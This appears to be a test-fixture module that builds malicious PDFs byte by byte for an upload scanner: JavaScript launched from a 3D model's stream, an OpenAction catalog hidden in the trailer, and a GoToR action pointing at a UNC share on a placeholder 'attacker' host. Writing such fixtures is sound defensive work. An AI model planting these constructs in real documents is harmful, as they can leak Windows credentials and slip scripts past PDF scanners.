"""More hostile PDFs for the upload checks, written byte by byte: 3D models that run a script, a catalog written
straight into the trailer, and actions whose type is a string rather than a name."""

from tests.pdfs import raw_pdf

UNC = rb"(\\\\attacker\\share\\x.pdf)"  # the PDF string for \\attacker\share\x.pdf
SCRIPT = b"app.alert(1);"
U3D = b"U3D\x00" + b"\x00" * 28  # the start of a U3D file: its block type and nothing more


def _stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<< %b /Length %d >>\nstream\n%b\nendstream" % (entries, len(data), data)


def model_3d(annotation: bytes = b"/Subtype /3D", stream: bytes = b"/Type /3D /Subtype /U3D /OnInstantiate 6 0 R"):
    """A page with a 3D annotation (object 4) whose 3D stream (object 5, ``stream`` its entries) runs the
    JavaScript stream of object 6 when the model loads."""
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>",
        b"<< /Type /Annot %b /Rect [0 0 595 842] /3DD 5 0 R /3DA << /A /PO >> >>" % annotation,
        _stream(U3D, stream),
        _stream(SCRIPT),
    )


def catalog_in_trailer(action: bytes = b"<< /S /GoToR /F %b >>" % UNC) -> bytes:
    """A PDF whose trailer holds the catalog itself, a direct dictionary that no cross-reference entry lists, with
    ``action`` run when the file opens."""
    pages = raw_pdf(
        b"<< /Type /Pages /Count 1 /Kids [2 0 R] >>",
        b"<< /Type /Page /Parent 1 0 R /MediaBox [0 0 595 842] >>",
    )
    # The trailer follows the cross-reference table, so writing more into it moves no object.
    return pages.replace(b"/Root 1 0 R", b"/Root << /Type /Catalog /Pages 1 0 R /OpenAction %b >>" % action)


def page_labels_as_strings() -> bytes:
    """An ordinary file whose page labels and border style give /S as strings, which act on nothing."""
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /PageLabels << /Nums [0 << /S (D) >>] >> >>",
        b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>",
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /BS << /S (S) >> /A << /S /URI /URI (https://nhs.uk/) >> >>",
    )


def annotation(entries: bytes, *more: bytes) -> bytes:
    """A page with one annotation (object 4) of the given entries; ``more`` objects are numbered from 5."""
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>",
        b"<< /Type /Annot /Rect [0 0 99 99] %b >>" % entries,
        *more,
    )
